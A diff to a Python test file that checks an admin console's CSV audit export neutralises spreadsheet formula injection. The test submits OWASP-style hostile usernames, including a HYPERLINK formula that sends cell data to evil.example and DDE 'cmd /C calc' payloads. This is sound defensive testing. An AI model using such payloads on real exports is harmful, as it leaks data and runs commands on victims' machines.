@@ -128,18 +128,30 @@ def test_entries_past_the_retention_go_when_the_next_one_is_written(app, console
     assert "test.expired" not in page and "test.kept" in page
 
 
-def test_csv_cells_cannot_be_formulas(app, console):
-    from admin_console import db
-    from admin_console.audit import store
+# Each of OWASP's formula prefixes, as an anonymous visitor types them as a username.
+HOSTILE_USERNAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
 
-    with app.app_context():
-        store.add(db.get_db(), "admin", "test.formula", '=HYPERLINK("x")', True, "+1")
-    rows = list(
-        csv.reader(
-            io.StringIO(console.client.get("/audit/export.csv?q=HYPERLINK").get_data(as_text=True))
-        )
-    )
-    assert rows[1][3] == '\'=HYPERLINK("x")' and rows[1][5] == "'+1"
+
+def test_no_exported_cell_is_a_formula_whatever_a_visitor_typed(app, console):
+    visitor = app.test_client()
+    for username in HOSTILE_USERNAMES:
+        assert login(visitor, username, "any-password").status_code == 401
+    export = console.client.get("/audit/export.csv?q=login")
+    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True), newline="")))
+    exported = {row[3]: row for row in rows[1:] if row[2] == "login" and row[4] == "failed"}
+    assert set(exported) == {"'" + username for username in HOSTILE_USERNAMES}
+    for row in exported.values():
+        assert row[1] == row[3]  # the operator column holds the typed name too, neutralised
+    # What no spreadsheet evaluates is kept as it is.
+    assert ["time_utc", "operator", "action", "target", "result", "detail"] == rows[0]
+    assert "wrong password" in {row[5] for row in exported.values()}
 
 
 def test_language_from_the_browser_then_the_operators_choice(app):
